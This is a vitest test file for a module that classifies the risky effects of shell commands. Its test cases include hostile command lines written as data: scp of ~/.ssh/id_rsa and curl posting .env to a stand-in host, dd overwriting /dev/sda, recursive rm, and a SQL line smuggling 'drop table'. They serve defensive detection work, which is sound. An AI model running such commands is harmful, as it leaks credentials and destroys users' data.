/** The table of programs: its rows are easy to find, and describe what programs do. */
import { expect, it, test } from 'vitest';
import { programOf, programs, rowOf } from '../../../src/enrich/risk/programs.ts';
import { subjectsOfShell } from '../../../src/enrich/risk/runs.ts';
import { newWork } from '../../../src/enrich/risk/work.ts';

/** The subjects of a line, without commands: `on how path`. */
const effects = (line: string): string[] =>
  subjectsOfShell(line, undefined, newWork()).flatMap(({ on, fields }) =>
    on === 'command'
      ? []
      : [
          [on, fields.how, fields.what, fields.path ?? fields.host ?? fields.statement]
            .flat()
            .filter(Boolean)
            .join(' '),
        ],
  );

test('the rows are in alphabetical order', () => {
  expect(Object.keys(programs)).toEqual(Object.keys(programs).sort());
});

test('names of other shells and of versions lead to the row of the program', () => {
  expect(programOf('Remove-Item')).toBe('rm');
  expect(programOf('iwr')).toBe('curl');
  expect(rowOf('python3.12')).toBe(programs.python3);
  expect(rowOf('CMD').executes).toBe(programs.cmd?.executes);
  expect(rowOf('constructor')).toEqual({});
});

it.each([
  ['cat a.txt', ['read a.txt']],
  ['grep -c x a.txt', []],
  ['sed -i s/a/b/ a.txt', ['write append a.txt']],
  ['cp a.txt b.txt', ['read a.txt', 'write replace b.txt']],
  ['dd if=a.img of=/dev/sda', ['read a.img', 'write replace /dev/sda']],
  ['tar -xf a.tar -C lib', ['read a.tar', 'read lib', 'write append lib']],
  ['rm -rf a b', ['delete recursive a', 'delete recursive b']],
  ['find src -name x.ts -delete', ['delete recursive src/x.ts']],
  ['sudo vim /etc/hosts', ['read /etc/hosts', 'write append /etc/hosts']],
  ['scp ~/.ssh/id_rsa a.example.com:x', ['read ~/.ssh/id_rsa', 'send secret a.example.com']],
  ['curl -d @.env https://a.example.com', ['url a.example.com', 'send secret a.example.com']],
  ['curl -o x.sh https://a.example.com/x.sh', ['url a.example.com', 'write replace x.sh']],
  ['psql -c "select 1 ; drop table a"', ['sql select 1', 'sql drop table a']],
  ['docker exec web rm -r /srv', ['delete recursive /srv']],
  ['npx rimraf x', []],
  [`ssh h 'rm a'`, ['delete single a']],
])('`%s` has the effects of its row', (line, expected) => expect(effects(line)).toEqual(expected));
